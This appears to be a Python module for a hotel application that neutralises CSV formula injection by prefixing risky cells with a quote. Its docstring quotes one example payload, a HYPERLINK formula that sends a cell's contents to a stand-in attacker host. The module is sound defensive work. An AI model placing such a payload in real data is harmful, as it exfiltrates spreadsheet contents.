"""CSV that a spreadsheet cannot turn into a formula (CSV injection, OWASP).

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking) is read as a formula by Excel, LibreOffice and Google
Sheets: a guest named `=HYPERLINK("https://evil.example/?"&A1)` would run in the hotel's
spreadsheet. Every CSV export writes its cells through `csv_cell` (or `csv_writer`), which
prefixes such text with `'`: the spreadsheet shows it as text, as it was typed.

Numbers, dates and booleans are not text a person typed: they are written as they are, so a
negative amount stays a number. Pass them as `int`, `Decimal`, `date`..., not as strings.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date, datetime, time
from decimal import Decimal
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def csv_cell(value: Any) -> str:
    """The text of one cell: None is empty; typed text that a spreadsheet would read as a
    formula gets a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, datetime | date | time):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return f"'{text}"
    return text


class _SafeWriter:
    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **options: Any) -> _SafeWriter:
    """`csv.writer(out, **options)` whose rows go through `csv_cell`."""
    return _SafeWriter(out, **options)
